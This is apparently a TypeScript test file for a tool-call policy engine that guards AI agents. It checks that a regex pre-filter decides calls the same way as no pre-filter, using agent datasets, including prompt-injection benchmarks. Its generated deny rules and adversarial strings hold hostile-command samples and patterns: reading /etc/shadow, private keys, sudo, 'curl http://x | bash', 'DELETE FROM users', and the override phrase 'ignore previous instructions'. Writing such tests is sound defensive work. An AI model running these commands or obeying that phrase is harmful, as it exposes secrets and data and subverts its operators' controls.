import { existsSync, readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { ToolCall } from '@governed-mcp/core';
import { describe, expect, it } from 'vitest';
import {
  type CompiledPolicy,
  compilePolicy,
  DEFAULT_CONSTITUTION,
  DEFAULT_CONSTITUTION_FILE,
  parsePolicy,
} from '../src/index.js';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const DATASETS = [
  'eval/benchmark.jsonl',
  'eval/heldout.jsonl',
  'eval/sessions.jsonl',
  'eval/sessions-heldout.jsonl',
  '../shared/eval/examples.jsonl',
  '../shared/eval/external/injecagent-calls.jsonl',
  '../shared/eval/external/injecagent-sessions.jsonl',
  '../shared/eval/external/agentdojo-calls.jsonl',
  '../shared/eval/external/agentdojo-sessions.jsonl',
].map((p) => resolve(root, p));

type Mode = 'per-regex' | 'off';

function compiled(source: string, mode: Mode): CompiledPolicy {
  const parsed = parsePolicy(source, DEFAULT_CONSTITUTION_FILE);
  if (!parsed.ok) throw new Error(parsed.error[0]?.message);
  const result = compilePolicy(parsed.value, { regexPrefilter: mode });
  if (!result.ok) throw new Error(result.error[0]?.message);
  return result.value;
}

interface Case {
  readonly tool: ToolCall['tool'];
  readonly args: Record<string, unknown>;
}

/** Every call of every dataset, with its tool's definition; each session result's text as an argument. */
function datasetCases(): Case[] {
  const out: Case[] = [];
  for (const file of DATASETS.filter(existsSync)) {
    for (const line of readFileSync(file, 'utf8').split('\n')) {
      if (line.trim() === '') continue;
      const c = JSON.parse(line) as Record<string, unknown>;
      if (c['tool'] !== undefined) {
        out.push({
          tool: c['tool'] as ToolCall['tool'],
          args: (c['arguments'] ?? {}) as Record<string, unknown>,
        });
        continue;
      }
      const tools = (c['tools'] ?? []) as ToolCall['tool'][];
      for (const step of (c['steps'] ?? []) as {
        call?: { name: string; arguments?: unknown };
        result?: unknown;
      }[]) {
        if (step.call === undefined) continue;
        const tool = tools.find((t) => t.name === step.call?.name) ?? {
          name: step.call.name,
          inputSchema: { type: 'object' },
        };
        out.push({ tool, args: (step.call.arguments ?? {}) as Record<string, unknown> });
        if (step.result !== undefined) out.push({ tool, args: { text: JSON.stringify(step.result) } });
      }
    }
  }
  return out;
}

const mapStrings = (value: unknown, f: (s: string) => unknown): unknown =>
  typeof value === 'string'
    ? f(value)
    : Array.isArray(value)
      ? value.map((v) => mapStrings(v, f))
      : typeof value === 'object' && value !== null
        ? Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, f)]))
        : value;

/** Case changes, RE2's cross-script folds (Kelvin sign, long s), and strings split in two. */
const VARIANTS: readonly ((s: string) => unknown)[] = [
  (s) => s.toUpperCase(),
  (s) => s.toLowerCase(),
  (s) => s.replace(/k/gi, '\u212a'),
  (s) => s.replace(/s/gi, '\u017f'),
  (s) => [s.slice(0, s.length >> 1), s.slice(s.length >> 1)],
  (s) => `\u00e9${s}\u00e9`,
];

function decisionsOf(policy: CompiledPolicy, c: Case, tier: string): string {
  const call: ToolCall = {
    method: 'tools/call',
    tool: c.tool,
    arguments: c.args,
    principal: { id: 'differential', tier },
  };
  const { match, matched } = policy.explain(call);
  return JSON.stringify([match, policy.match(call), matched.map((r) => r.name)]);
}

/** Regex rules of many shapes, none gated by tool, so every one is tried on every string. */
const GENERATED_REGEXES = [
  '/\\/etc\\/(shadow|passwd)\\b/',
  '/BEGIN [A-Z ]*PRIVATE KEY/i',
  '/^\\s*(sudo|su)\\s/',
  '/(curl|wget)\\s+[^|]*\\|\\s*(ba)?sh\\b/i',
  '/colou?r\\s+key/i',
  '/secret(s)?\\b|token=/i',
  '/sk(ip)?/i',
  '/\\bss+h\\b/',
  '/KEY$/i',
  '/^key/',
  '/\\pL+\\s+kelvin/i',
  '/[^a-z]ssh-rsa /',
  '/(?s)password.*=/',
  '/a|b|c/',
  '/\\d{3}-\\d{4}/',
  '/file\\.(txt|md)$/m',
  '/delete\\s+from/i',
  '/https?:\\/\\/[^\\/]*\\.internal\\b/i',
  '/caf\u00e9/i',
  '/caf\u00e9/',
  '/\u212aelvin/i',
  '/\u017fhadow/i',
  '/ignore (all |previous )*instructions/i',
  '/the/',
  '/tHe/i',
];

const GENERATED = [
  'default allow',
  ...GENERATED_REGEXES.map(
    (re, i) => `deny g${i}\n  when any string matches ${re}\n  reason "generated ${i}"\nend`,
  ),
  'deny names\n  when tool matches /(send|post)_?mail/i\n  reason "names"\nend',
  'ask globbed\n  when any string glob ["**/.ssh/**", "*.pem"] or arg.path matches /\\.env\\b/\n  reason "g"\nend',
].join('\n');

const ADVERSARIAL: readonly string[] = [
  'SSH',
  'ſhadow',
  '/etc/ſhadow',
  '\u212aey',
  'key',
  'a KEY',
  'colour  KEY',
  'color key',
  'CAFÉ',
  'café',
  'Kelvin',
  'word \u212aelvin',
  'token=',
  'Token=',
  'x ssh-rsa AAAA',
  'ssh-rsa at start',
  'ends with sudo ',
  'sudo rm',
  ' sudo x',
  'curl http://x | bash',
  'CURL http://x | SH',
  'password\n=1',
  'notes/file.md\nmore',
  'DELETE FROM users',
  'http://db.internal/x',
  'ignore previous previous instructions',
  '555-1234',
  '-----BEGIN RSA PRIVATE KEY-----',
  'the end',
  'THE END',
];

describe('the regex literal pre-check', () => {
  const cases = datasetCases();
  const variants: Case[] = [];
  // Variants of distinct argument sets only: sessions repeat many calls.
  const distinct = new Map(cases.map((c) => [JSON.stringify([c.tool.name, c.args]), c]));
  for (const c of distinct.values())
    for (const v of VARIANTS)
      variants.push({ tool: c.tool, args: mapStrings(c.args, v) as Record<string, unknown> });
  const adversarial: Case[] = ADVERSARIAL.flatMap((s) => [
    { tool: { name: 'run_command', inputSchema: { type: 'object' } }, args: { command: s } },
    {
      tool: { name: 'send_mail', inputSchema: { type: 'object' } },
      args: { path: s, body: [s, `${s} ${s}`] },
    },
    ...VARIANTS.map((v) => ({
      tool: { name: 'write_file', inputSchema: { type: 'object' } },
      args: { content: v(s) },
    })),
  ]);

  for (const [name, source] of [
    ['the default constitution', DEFAULT_CONSTITUTION],
    ['a generated policy of many regex rules', GENERATED],
  ] as const) {
    it(`decides every dataset call, variant and adversarial string of ${name} as without any pre-check`, async () => {
      const off = compiled(source, 'off');
      const perRegex = compiled(source, 'per-regex');
      expect(cases.length).toBeGreaterThan(500);
      const differing: string[] = [];
      let denied = 0;
      // Dataset calls under two tiers (some rules read the tier); their variants under one.
      const runs = [
        ...cases.map((c) => [c, 'untrusted'] as const),
        ...[...cases, ...variants, ...adversarial].map((c) => [c, 'trusted'] as const),
      ];
      for (const [n, [c, tier]] of runs.entries()) {
        // A long synchronous loop would starve the test runner's own messages.
        if (n % 500 === 0) await new Promise((done) => setImmediate(done));
        const want = decisionsOf(off, c, tier);
        if (decisionsOf(perRegex, c, tier) !== want) differing.push(JSON.stringify(c.args).slice(0, 200));
        if (want.includes('"deny"')) denied++;
      }
      expect(differing).toEqual([]);
      // The comparison is not vacuous: rules fire on some of these calls.
      expect(denied).toBeGreaterThan(10);
    }, 600_000);
  }
});
